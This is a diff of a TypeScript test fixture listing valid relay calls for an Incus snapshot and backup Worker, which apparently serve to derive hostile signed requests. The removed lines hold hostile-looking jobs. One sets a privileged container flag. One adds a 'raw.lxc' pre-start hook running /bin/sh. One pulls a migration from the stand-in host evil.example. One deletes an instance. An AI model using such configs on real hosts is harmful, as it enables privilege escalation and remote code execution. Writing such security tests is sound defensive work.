@@ -1,47 +1,61 @@
 /** Valid calls of the Worker to the relay, from which the hostile ones with a valid signature are made. */
-import { request } from '../../shared/incus/routes.ts'
 import type { BatchRequest, InventoryRequest } from '../../shared/relay/protocol.ts'
+import type { Sending, Step } from '../../shared/relay/steps.ts'
 
-const web = { instance: 'web' }
-const step = (remote: string, ...[name, ...rest]: Parameters<typeof request>) => ({
-  ...{ remote, wait: 30 },
-  ...request(name, ...rest),
-})
+const main = { remote: 'main', project: 'default', instance: 'web' }
+const backup = { ...main, remote: 'backup' }
+/** The newest of both, verified on the copy. */
+const newest = 'daily-20261120T0015Z'
+const soon = '2026-11-20T00:25:00Z'
 
-/** All that it may do to Incus, however it is changed, is to take snapshots on the source. */
+/** A copy from the backup server onto the source. */
+const backwards: Sending = {
+  ...{ source: backup, target: main, transferMode: 'pull', pool: 'default', member: null },
+  ...{ first: false, startOver: true, unverified: [newest], owner: 'x', listed: [], unfinished: null },
+  transfer: { id: 'x', from: 0, names: [] },
+  ...{
+    verified: [],
+    lasting: [],
+    mirrored: [newest],
+    excludeOlder: true,
+    sourceServer: '',
+    inconsistent: true,
+  },
+  extended: {},
+}
+
+const STEPS: readonly Step[] = [
+  { do: 'take', ref: main, snapshot: 'daily-20261120T0300Z', stateful: false, expiresAt: null },
+  { do: 'take', ref: backup, snapshot: newest, stateful: false, expiresAt: soon, again: true },
+  { do: 'expire', ref: main, snapshot: 'mine' },
+  { do: 'expire', ref: backup, snapshot: newest },
+  { do: 'set-expiry', ref: backup, snapshot: newest, expiresAt: soon },
+  { do: 'hold', ref: main, snapshot: newest, note: 'n' },
+  { do: 'start', ref: backup },
+  { do: 'thaw', ref: backup },
+  { do: 'end-restore', ref: backup, safeties: ['before-restore-20261120T0010Z'] },
+  {
+    ...{ do: 'restore', ref: backup, snapshot: newest, partial: newest, restored: true, running: true },
+    safety: { name: 'before-restore-20261120T0010Z', expiresAt: null, taken: true },
+    ...{ stateful: false, holds: { 'user.stapes.hold.x': 'n' }, held: [newest], expiresAt: soon },
+  },
+  { do: 'copy', ...backwards },
+  { do: 'copy', ...backwards, source: main, target: { ...backup, instance: 'made' }, first: true },
+  { do: 'check-copy', ...backwards, rules: { restricted: 'true' } },
+  {
+    ...{ do: 'verify', job: 'x', source: main, target: backup, marks: [], rest: [], restore: [] },
+    ...{ expiries: [{ snapshot: newest, expiresAt: soon }], protect: false, owner: 'x' },
+  },
+  { do: 'read-snapshots', ref: main },
+]
+
+/** The last one is detached. However they are changed, no copy loses anything, and no instance changes. */
 export const BATCH: BatchRequest = {
-  jobs: [
-    {
-      ...{ id: 'main/default/web', lock: 'main/default/web' },
-      steps: [
-        step('main', 'createSnapshot', web, {}, { name: 'daily-20261120T0300Z', stateful: false }),
-        step('main', 'listSnapshots', web, { recursion: '1' }),
-      ],
-    },
-    { id: 'a', after: 'main/default/web', steps: [step('backup', 'deleteInstance', web)] },
-    { id: 'b', steps: [step('backup', 'deleteSnapshot', { ...web, snapshot: 'mine' })] },
-    {
-      id: 'c',
-      steps: [step('main', 'markInstance', web, {}, { config: { 'security.privileged': 'true' } })],
-    },
-    { id: 'd', steps: [step('main', 'restoreInstance', web, {}, { restore: 'mine', stateful: false })] },
-    { id: 'e', detach: true, family: 'e', memo: { a: 1 }, steps: [step('main', 'getInstance', web)] },
-    {
-      id: 'f',
-      steps: [
-        step(
-          'backup',
-          'receiveInstance',
-          {},
-          {},
-          {
-            ...{ name: 'made', config: { 'raw.lxc': 'lxc.hook.pre-start=/bin/sh' }, devices: {} },
-            source: { type: 'migration', mode: 'pull', operation: 'https://evil.example/1.0/operations/x' },
-          },
-        ),
-      ],
-    },
-  ],
+  jobs: STEPS.map((step, at) => ({
+    ...{ id: `j${at}`, lock: `l${at}`, steps: [step] },
+    ...(at < STEPS.length - 1 ? {} : { detach: true, family: 'f', memo: { a: 1 }, after: 'j0' }),
+  })),
+  record: 'somebody requests something',
 }
 
 export const INVENTORY: InventoryRequest = {
